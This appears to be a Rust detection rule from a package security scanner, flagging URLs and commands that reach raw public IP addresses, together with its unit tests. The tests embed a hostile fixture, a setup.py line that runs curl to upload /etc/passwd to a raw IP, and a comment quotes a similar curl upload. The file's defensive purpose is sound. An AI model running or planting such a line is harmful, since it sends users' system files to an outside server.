//! `SA-013` raw IP address URL (threat). Finds URLs whose host is a public IPv4 address.
//!
//! Why: legitimate packages name hosts; a bare public IP is a server that did not want a
//! name. Example: `http://45.61.1.2:8080/x`. Known false positives: examples and tests naming
//! documentation ranges (192.0.2/24, 198.51.100/24, 203.0.113/24) or private networks, which
//! this rule leaves alone.

use super::{Ctx, Hit, Kind, Rule};
use scioc_model::Behaviour;
use std::net::Ipv4Addr;

pub(crate) const RULE: Rule =
    Rule { id: "SA-013", name: "raw IP address URL", kind: Kind::Threat, behaviour: Behaviour::Downloader, weight: 4 };

/// A public `a.b.c.d:port` word of a command line (`curl -F a=@f 198.18.7.9:8080`).
fn address_word(line: &str) -> Option<String> {
    line.split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '@' | '/')).find_map(|w| {
        let (host, port) = w.split_once(':')?;
        let ip = host.parse::<Ipv4Addr>().ok().filter(|ip| public(*ip))?;
        (!port.is_empty() && port.bytes().take_while(u8::is_ascii_digit).count() > 0).then(|| format!("{ip}:{port}"))
    })
}

pub(crate) fn check(ctx: &Ctx<'_>, out: &mut Vec<Hit>) {
    for (command, line) in super::command_lines(ctx) {
        if let Some(address) = address_word(command) {
            out.push(Hit::new(&RULE, line, format!("a command reaches a raw IP address: {address}")).naming(address));
            return;
        }
    }
    // A bare public address given to a network call's options (`http.get({host: "…"})`),
    // in a file that reaches the network; public DNS resolvers are not an address to fetch.
    if ctx.facts.calls_to(super::NETWORK).next().is_some()
        && let Some((ip, line)) = ctx.facts.strings.iter().find_map(|(s, n)| {
            let ip = s.trim().parse::<Ipv4Addr>().ok().filter(|ip| public(*ip) && !RESOLVERS.contains(&ip.octets()))?;
            Some((ip, *n))
        })
    {
        out.push(Hit::new(&RULE, line, format!("connects to a raw IP address: {ip}")).naming(ip.to_string()));
        return;
    }
    for (s, line) in &ctx.facts.strings {
        for scheme in ["http://", "https://", "tcp://", "ftp://"] {
            let mut rest = s.as_str();
            while let Some(at) = rest.find(scheme) {
                let after = &rest[at + scheme.len()..];
                let host: String = after.chars().take_while(|c| c.is_ascii_digit() || *c == '.').collect();
                if let Ok(ip) = host.parse::<Ipv4Addr>()
                    && public(ip)
                {
                    let url: String = rest[at..]
                        .chars()
                        .take_while(|c| !c.is_whitespace() && !matches!(c, '"' | '\'' | '`'))
                        .collect();
                    out.push(
                        Hit::new(
                            &RULE,
                            *line,
                            format!("URL at a raw IP address: {}", url.chars().take(80).collect::<String>()),
                        )
                        .naming(url),
                    );
                    return;
                }
                rest = after;
            }
        }
    }
}

/// Public DNS resolvers, which code names to resolve or to test connectivity.
const RESOLVERS: &[[u8; 4]] = &[
    [8, 8, 8, 8],
    [8, 8, 4, 4],
    [1, 1, 1, 1],
    [1, 0, 0, 1],
    [9, 9, 9, 9],
    [149, 112, 112, 112],
    [208, 67, 222, 222],
    [208, 67, 220, 220],
];

fn public(ip: Ipv4Addr) -> bool {
    let [a, b, c, _] = ip.octets();
    !(ip.is_private()
        || ip.is_loopback()
        || ip.is_link_local()
        || ip.is_unspecified()
        || ip.is_broadcast()
        || ip.is_multicast()
        || (a, b, c) == (192, 0, 2)
        || (a, b, c) == (198, 51, 100)
        || (a, b, c) == (203, 0, 113)
        || a == 0
        || a >= 240
        || (a == 100 && (64..128).contains(&b)))
}

#[cfg(test)]
mod tests {
    use super::super::fixture::*;

    #[test]
    fn fires_on_public_addresses() {
        assert!(fired("a.py", "u = 'http://45.61.1.2:8080/x'\n", LIBRARY).contains(&"SA-013"));
        assert!(
            fired("setup.py", "import os\nos.system('curl -F a=@/etc/passwd 45.61.1.2:9001')\n", LIBRARY)
                .contains(&"SA-013")
        );
    }

    #[test]
    fn near_misses() {
        assert!(
            !fired(
                "a.js",
                "const u = 'http://127.0.0.1:3000/'; const v = 'http://192.168.1.1/'; const w = 'http://203.0.113.5/'",
                LIBRARY
            )
            .contains(&"SA-013")
        );
        assert!(!fired("a.js", "const dns = '8.8.8.8'", LIBRARY).contains(&"SA-013"));
        assert!(
            !fired("a.js", "const https = require('https'); const r = '8.8.8.8'; https.get(u)", LIBRARY)
                .contains(&"SA-013")
        );
        assert!(
            !fired("setup.py", "import os\nos.system('ping -c 1 8.8.8.8')\n", LIBRARY).contains(&"SA-013"),
            "no port"
        );
    }
}
